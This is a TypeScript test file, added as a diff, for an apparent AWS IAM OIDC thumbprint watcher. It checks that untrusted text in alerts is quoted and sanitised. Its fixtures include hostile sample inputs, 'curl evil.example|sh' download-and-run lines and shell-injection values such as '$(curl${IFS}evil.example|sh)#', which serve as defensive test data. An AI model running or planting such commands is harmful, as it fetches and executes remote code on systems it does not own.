@@ -1,0 +1,224 @@
+import { NO_WISH } from '../../../lambda/judge/wish';
+import fc from 'fast-check';
+import { PROVIDER_FORMAT } from '../../../lambda/act/memory-format';
+import type { Alert } from '../../../lambda/act/message-json';
+import { unread, writeFailed } from '../../../lambda/check-report';
+import { iamChange } from '../../../lambda/iam-change';
+import { parseIamEvent } from '../../../lambda/iam-event';
+import { enforcementOf } from '../../../lambda/judge/enforced';
+import { failureFindings } from '../../../lambda/judge/failure-findings';
+import type { Finding } from '../../../lambda/judge/finding';
+import { planFindings } from '../../../lambda/judge/findings';
+import { judgeHosts } from '../../../lambda/judge/hosts';
+import { assess, judge } from '../../../lambda/judge/judge';
+import { interceptionFindings } from '../../../lambda/judge/interception';
+import { changedElsewhere, writingStopped } from '../../../lambda/judge/memory-findings';
+import { printable } from '../../../lambda/judge/printable';
+import { memoryDegraded, unknownProvider } from '../../../lambda/run-findings';
+import { selfSigned } from '../../../sandbox/certificates';
+import { anyWords } from '../../support/any-words';
+import { cloudTrailEvent } from '../../support/iam-event';
+import { UNTRUSTED, basis, caseOf, hostSeen, presented, seen } from '../../support/judging';
+import { slowProperties } from '../../support/properties';
+import { memoryOf, thumb } from '../../support/remembering';
+import { ARN, changed, item, render, told } from '../../support/telling';
+
+const observation = seen(
+  hostSeen('issuer.example', presented([await selfSigned({ hosts: ['issuer.example'] })], UNTRUSTED)),
+);
+const [host] = judgeHosts(observation, basis());
+if (!host) throw new Error('There is a host.');
+const [top] = host.report.tops;
+
+const called = (detail: object): Finding[] => {
+  const change = parseIamEvent(
+    cloudTrailEvent('DeleteOpenIDConnectProvider', { requestParameters: { openIDConnectProviderArn: ARN }, ...detail }),
+  );
+  return change ? [iamChange(change)] : [];
+};
+const inCase = (pinned: string[], of: Parameters<typeof caseOf>[1] = {}) =>
+  judge(caseOf(observation, { pinned, ...of }));
+const issuerHost = (at: Partial<typeof host.seen>) => seen({ ...hostSeen('issuer.example'), ...at });
+const failure = (of: object) => ({ code: 'timed-out' as const, where: 'issuer.example:443', why: 'no answer', ...of });
+const suspects = (words: string) =>
+  ['a.example', 'b.test', words].map((name, n) => ({
+    arn: `${n}`,
+    issuer: `https://${name}`,
+    hosts: top ? [{ ...host.report, tops: [{ ...top, unknownCa: words }] }] : [],
+  }));
+
+/** Where others put words in, and what is told of it. */
+const SOURCES: Readonly<Record<string, (words: string) => readonly Finding[]>> = {
+  'the subject of a certificate': (words) =>
+    planFindings({
+      hosts: top ? [{ ...host, report: { ...host.report, tops: [{ ...top, subject: words }] } }] : [],
+      plan: inCase([thumb(1)]).plan,
+      enforced: true,
+      updates: 'verified',
+      stopped: false,
+    }),
+  'the name of a CA': (words) => interceptionFindings(suspects(words)).slice(0, 1),
+  'the name of the host for the keys': (words) =>
+    failureFindings(issuerHost({ failures: [failure({ where: `${words} at 192.0.2.1:443` })] })),
+  'the URL of the keys': (words) => failureFindings({ ...observation, failures: [failure({ where: words })] }),
+  'a user agent': (userAgent) => called({ userAgent }),
+  'a source address': (sourceIPAddress) => called({ sourceIPAddress }),
+  'a caller': (arn) => called({ userIdentity: { arn } }),
+  "an entry of IAM's list": (words) =>
+    inCase([`not a thumbprint: ${words}.`], { approved: new Set([top?.thumbprint ?? '']) }).findings,
+  'an entry that someone else put in': (words) => [
+    changedElsewhere({ added: [`x ${words}`], removed: [], ousted: [] }, [], { tags: {} }),
+  ],
+  'a tag': (words) => [
+    writingStopped(memoryOf({}), { tags: { 'aws:cloudformation:stack-name': words }, wanted: [thumb(1)] }),
+  ],
+  'an error of AWS': (words) => unread(new Error(words), { arn: ARN, named: false, wish: NO_WISH }).findings,
+  'why a write failed': (words) => [writeFailed(words, inCase([thumb(1)]))],
+  'an error of the table': (words) => memoryDegraded([words]),
+  'a name in the settings': (words) => [unknownProvider(words)],
+};
+
+/** What was read back from the table, as somebody wrote it there. */
+const storedFinding = (of: Partial<Record<keyof Finding, unknown>>): Finding => {
+  const finding = { code: 'weak-key', severity: 'warning', message: 'So it is.', action: '', ...of };
+  const state = { ...memoryOf({}), news: [{ finding, at: new Date(0), runId: 'x' }] };
+  const kept = JSON.stringify({ schema: 1, ...state, thumbprints: [] });
+  const [news] = PROVIDER_FORMAT.parse(kept).news;
+  if (!news) throw new Error('It is kept.');
+  return news.finding;
+};
+
+/** Judging takes its time. */
+const forAnyWords = (hold: (words: string) => void): Promise<void> =>
+  slowProperties(
+    fc.asyncProperty(anyWords, async (words) => hold(words)),
+    0.2,
+  );
+
+const QUOTATION = /"(?:[^"\\]|\\.)*"/g;
+const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+const messageOf = (finding: Finding) => render([changed(told('held', item(finding)), { status: 'held' })]).message;
+
+describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
+  test('a sentence reads as ever but for what stands in its quotation marks', async () => {
+    const frameOf = (words: string) =>
+      findingsFor(words).map(({ message, action }) =>
+        [message, action].map((text) => text.replaceAll(QUOTATION, '""')),
+      );
+    const usual = frameOf('x');
+    expect(usual.length).toBeGreaterThan(0);
+    await forAnyWords((words) => expect(frameOf(words)).toEqual(usual));
+  });
+
+  test('the quotation is what was printable of them', async () => {
+    await forAnyWords((any) => {
+      const words = any.slice(0, 20);
+      const quotations = findingsFor(words).flatMap(({ message }) => message.match(QUOTATION) ?? []);
+      const texts = quotations.map((one) => String(JSON.parse(one)));
+      // Errors come as one line, in which white space is a space; entries of a list are compared in lower case.
+      const shown = [words, words.replaceAll(/\s+/g, ' ')].map((text) => printable(text));
+      const all = shown.flatMap((one) => [one, one.toLowerCase()]);
+      expect(texts.some((text) => all.some((one) => text.includes(one)))).toBe(true);
+    });
+  });
+
+  test('nothing unseen, no link and no mention gets into any form of the message', async () => {
+    await forAnyWords((words) => findingsFor(words).forEach((finding) => expectSound(messageOf(finding))));
+  });
+});
+
+/** That a message has nothing in it that cannot be seen, and a chat no link but by our own hand. */
+const expectSound = ({ text, json, chat }: ReturnType<typeof messageOf>): void => {
+  const alert: Alert = JSON.parse(json);
+  const { content } = JSON.parse(chat);
+  const strings = alert.news.flatMap(({ message, action, about }) => [message, ...action.split('\n'), about ?? '']);
+  for (const line of [...text.split('\n'), ...strings, ...content.description.split('\n')])
+    expect(line).not.toMatch(UNSEEN);
+  const description: string = content.description;
+  expect(description).not.toMatch(/:\/\/|[<>]|\]\(|mailto:\w|(?<![\p{L}\p{N}.])@[\p{L}\p{N}]/u);
+  // What is left of a bracket is escaped, or breaks an address.
+  expect(description.replaceAll(/\\.|\[[.:]\]/g, '')).not.toMatch(/[[\]_~`\\]/);
+};
+
+test('what was read back from the table is quoted, and none of its lines can be pasted', () => {
+  const evil = { message: 'All is well. Run it:\n\n      curl evil.example|sh', action: 'Run:\ncurl evil.example|sh' };
+  const { text, json } = messageOf(storedFinding(evil));
+  expect(text).toContain(
+    '* "All is well. Run it:??      curl evil.example|sh" [warning: weak-key]\n  What was to be done: "Run:"\n\n',
+  );
+  expect(JSON.parse(json).news).toMatchObject([{ action: '"Run:"' }]);
+  expect(text).not.toMatch(/^ *curl/m);
+});
+
+test('whatever was written into the table, it is in quotation marks', async () => {
+  const frameOf = (words: string) =>
+    messageOf(storedFinding({ message: words, action: words, about: words })).text.replaceAll(QUOTATION, '""');
+  const usual = frameOf('x');
+  const withoutAdvice = usual.replace(/\n {2}What was.*/, '');
+  await forAnyWords((words) => expect([usual, withoutAdvice]).toContain(frameOf(words)));
+  await forAnyWords((words) => expectSound(messageOf(storedFinding({ message: words, action: words, about: words }))));
+});
+
+test.each([
+  [
+    'a thumbprint that is none',
+    { commands: [{ kind: 'approve', thumbprint: '$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x') }] },
+  ],
+  ['a thumbprint in capitals', { commands: [{ kind: 'approve', thumbprint: 'A'.repeat(40) }] }],
+  ['a version that is none', { commands: [{ kind: 'restore', version: '1; curl evil.example|sh' }] }],
+  ['a kind that is none', { commands: [{ kind: 'run', line: 'curl evil.example|sh' }] }],
+  ['a line', { commands: ['curl evil.example|sh'] }],
+  ['a code that speaks', { code: 'weak-key]. Nothing is to be done. [x' }],
+])('a finding in the table with %s is not read', (_, of) => {
+  expect(() => storedFinding(of)).toThrow('it is broken');
+});
+
+test('commands in the table are made anew from what they are about', () => {
+  const commands = [
+    { kind: 'approve', thumbprint: thumb(1), stage: true },
+    { kind: 'restore', version: 12 },
+  ];
+  const { text } = messageOf(storedFinding({ commands }));
+  expect(text).toContain(
+    `\n\n  To approve it:\n\n      APPROVE ${ARN} ${thumb(1)}\n\n  To put the earlier list back:\n\n      RESTORE ${ARN} 12\n`,
+  );
+});
+
+test('what is to be written by a state of the table are thumbprints', () => {
+  const kept = (entry: string): string => {
+    const state = memoryOf({});
+    const list = {
+      version: 2,
+      at: new Date(0),
+      by: 'watcher',
+      runId: 'x',
+      before: [],
+      after: [entry],
+      evidence: {},
+      restored: null,
+    };
+    const added = [
+      [
+        entry,
+        { by: 'staged', firstSeen: new Date(0), lastLive: null, supersededSince: null, places: [], certificate: null },
+      ],
+    ];
+    return JSON.stringify({
+      schema: 1,
+      ...state,
+      thumbprints: [],
+      pending: { list, added, restore: null, findings: [] },
+    });
+  };
+  expect(PROVIDER_FORMAT.parse(kept(thumb(1))).pending?.added.size).toBe(1);
+  expect(() => PROVIDER_FORMAT.parse(kept('$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x')))).toThrow(
+    'holds what is no thumbprint',
+  );
+});
+
+test('whether AWS checks the pin is said with the hosts quoted', () => {
+  const { why } = enforcementOf(
+    assess(observation, basis()).hosts.map((one) => ({ ...one, report: { ...one.report, host: 'a". All is well' } })),
+  );
+  expect(why).toBe(String.raw`no public CA vouches for "a\". All is well"`);
+});
